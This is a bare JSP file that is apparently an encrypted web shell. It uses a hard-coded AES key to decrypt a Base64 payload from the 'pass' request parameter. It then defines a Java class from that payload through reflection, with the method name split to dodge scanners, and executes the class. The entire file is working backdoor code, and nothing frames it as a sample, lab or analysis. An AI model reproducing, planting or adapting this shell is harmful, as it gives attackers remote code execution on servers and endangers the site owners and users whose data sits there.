<%! String key = "3c6e0b8a9c15224a";
byte[] dec(byte[] s) throws Exception { javax.crypto.Cipher c = javax.crypto.Cipher.getInstance("AES"); c.init(2, new javax.crypto.spec.SecretKeySpec(key.getBytes(), "AES")); return c.doFinal(s); }
Class load(byte[] b) throws Exception {
  java.lang.reflect.Method m = ClassLoader.class.getDeclaredMethod("define" + "Class", byte[].class, int.class, int.class);
  m.setAccessible(true);
  return (Class) m.invoke(Thread.currentThread().getContextClassLoader(), b, 0, b.length);
} %>
<% byte[] data = java.util.Base64.getDecoder().decode(request.getParameter("pass"));
   Class k = load(dec(data));
   k.newInstance().equals(request); %>
